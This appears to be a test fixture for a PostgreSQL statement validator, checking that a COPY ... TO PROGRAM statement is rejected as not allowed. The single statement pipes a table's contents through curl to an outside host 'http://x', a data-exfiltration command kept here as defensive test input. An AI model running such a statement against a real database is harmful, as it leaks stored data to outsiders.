-- dialect: postgres
-- decision: reject
-- expect: statement-not-allowed error 1:1
-- message: COPY ... PROGRAM
COPY region TO PROGRAM 'curl -d @- http://x'
